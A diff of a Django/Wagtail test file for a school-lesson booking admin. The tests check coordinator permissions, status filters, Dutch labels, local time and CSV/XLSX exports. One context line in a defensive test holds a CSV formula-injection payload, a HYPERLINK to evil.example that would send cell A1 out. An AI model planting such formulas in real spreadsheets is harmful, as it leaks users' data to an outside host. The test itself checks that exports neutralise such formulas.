@@ -1,13 +1,17 @@
 """Staff admin: coordinators see and act on their own techniekhuis's bookings only; CSV/XLSX export."""
 
 import csv
+import datetime
 import io
+from datetime import UTC
+from decimal import Decimal
 
 import openpyxl
 import pytest
 from django.contrib.auth.models import Permission
 
 from cms.bookings.models import Booking, LessonOffering, TimeSlot
+from cms.exports import DutchExcel
 from cms.outbox.models import OutgoingMail
 from tests.factories import SchoolFactory, TechniekhuisPageFactory
 
@@ -249,7 +253,7 @@ def test_coordinator_cannot_create_edit_or_cancel_bookings_of_another_techniekhu
 ):
     mine = booking_at(houses[0], "OBS Noorderlicht")
     other = booking_at(houses[1], "CBS Zuiderzon")
-    assert coordinator_client.get(f"{INDEX}create/").status_code in (302, 403)
+    assert coordinator_client.get(f"{INDEX}new/").status_code in (302, 403)
     # bookings change state only through the actions; another techniekhuis's booking is not found
     assert coordinator_client.post(f"{INDEX}edit/{mine.pk}/", {"pupils": "99"}).status_code in (302, 403)
     assert coordinator_client.post(f"{INDEX}edit/{other.pk}/", {"pupils": "99"}).status_code == 404
@@ -388,3 +392,99 @@ def test_csv_export_neutralises_formulas_in_what_schools_typed(admin_client, hou
     rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
     assert rows[0]["Contactpersoon"] == '\'=HYPERLINK("https://evil.example/?"&A1,"klik")'
     assert "'@SUM(1+1)" in rows[0].values()
+
+
+# --- the list in Wagtail's own layout; exports as Dutch Excel and the admin show them ----------
+
+
+def test_coordinators_filter_drawer_offers_only_their_own_techniekhuis(coordinator_client, houses):
+    booking_at(houses[0], "OBS Noorderlicht")
+    booking_at(houses[1], "CBS Zuiderzon")
+
+    html = coordinator_client.get(INDEX).content.decode()
+
+    assert 'name="techniekhuis"' in html  # Wagtail's filter drawer
+    assert "Techniek op Noord" in html
+    assert "Techniekhuis op Zuid" not in html
+
+
+def test_status_filter_and_dutch_labels_in_the_list(coordinator_client, houses):
+    booking_at(houses[0], "OBS Noorderlicht", status=Booking.Status.REQUESTED)
+    booking_at(houses[0], "OBS Al Bevestigd", status=Booking.Status.CONFIRMED)
+
+    html = coordinator_client.get(INDEX, {"status": "requested"}).content.decode()
+
+    assert "OBS Noorderlicht" in html and "OBS Al Bevestigd" not in html
+    assert "Aangevraagd" in html
+    assert "Bevestigen" in html and "Boeking annuleren" in html
+
+
+def test_inspect_shows_yes_no_and_local_time(coordinator_client, houses):
+    booking = booking_at(houses[0], "OBS Noorderlicht", privacy_consent=True)
+    Booking.objects.filter(pk=booking.pk).update(
+        created_at=datetime.datetime(2026, 3, 2, 8, 15, 30, 123456, tzinfo=UTC)
+    )
+
+    html = coordinator_client.get(f"{INDEX}inspect/{booking.pk}/").content.decode()
+
+    assert "True" not in html
+    assert ">Ja<" in html.replace("\n", "").replace(" ", "")
+    assert "2 maart 2026 09:15" in html  # Amsterdam is UTC+1 in March
+
+
+def _created_in_winter(booking):
+    Booking.objects.filter(pk=booking.pk).update(
+        created_at=datetime.datetime(2026, 12, 2, 15, 46, 7, 654321, tzinfo=UTC)
+    )
+
+
+def test_csv_export_in_dutch_with_labels_and_local_time(coordinator_client, houses):
+    booking = booking_at(
+        houses[0], "OBS Noorderlicht", status=Booking.Status.CONFIRMED, amount_owed=Decimal("18.00")
+    )
+    _created_in_winter(booking)
+
+    response = coordinator_client.get(INDEX, {"export": "csv"})
+
+    content = b"".join(response.streaming_content).decode("utf-8")
+    assert content.startswith("\ufeff")
+    reader = csv.DictReader(io.StringIO(content.removeprefix("\ufeff")), dialect=DutchExcel)
+    [row] = list(reader)
+    assert {"Nummer", "Status", "Les", "Datum", "Tijd", "School", "BRIN-code", "Aangemaakt"} <= set(row)
+    assert row["Status"] == "Bevestigd"
+    assert row["Akkoord met de privacyverklaring"] == "Ja"
+    assert row["Aangemaakt"] == "2-12-2026 16:46"  # Europe/Amsterdam, no seconds' fractions
+    assert row["Verschuldigde eigen bijdrage (EUR)"] == "18,00"
+
+
+def test_xlsx_export_has_the_admins_local_time(coordinator_client, houses):
+    booking = booking_at(houses[0], "OBS Noorderlicht", status=Booking.Status.REQUESTED)
+    _created_in_winter(booking)
+
+    response = coordinator_client.get(INDEX, {"export": "xlsx"})
+
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    header, row = list(sheet.iter_rows(values_only=True))
+    values = dict(zip(header, row, strict=True))
+    assert values["Status"] == "Aangevraagd"
+    assert values["Aangemaakt"] == datetime.datetime(2026, 12, 2, 16, 46, 7)
+    listed = coordinator_client.get(INDEX).content.decode()
+    assert "2-12-2026 16:46" in listed  # what the admin shows
+
+
+def test_export_buttons_are_dutch(coordinator_client, houses):
+    html = coordinator_client.get(INDEX).content.decode()
+
+    assert "XLSX downloaden" in html and "CSV downloaden" in html
+    assert "Download XLSX" not in html
+
+
+def test_inspect_offers_the_actions_the_booking_allows(coordinator_client, houses):
+    requested = booking_at(houses[0], "OBS Noorderlicht", status=Booking.Status.REQUESTED)
+    given = booking_at(houses[0], "OBS Al Gegeven", status=Booking.Status.COMPLETED)
+
+    html = coordinator_client.get(f"{INDEX}inspect/{requested.pk}/").content.decode()
+    assert f"{INDEX}confirm/{requested.pk}/" in html and f"{INDEX}cancel/{requested.pk}/" in html
+
+    html = coordinator_client.get(f"{INDEX}inspect/{given.pk}/").content.decode()
+    assert f"/confirm/{given.pk}/" not in html and f"/cancel/{given.pk}/" not in html
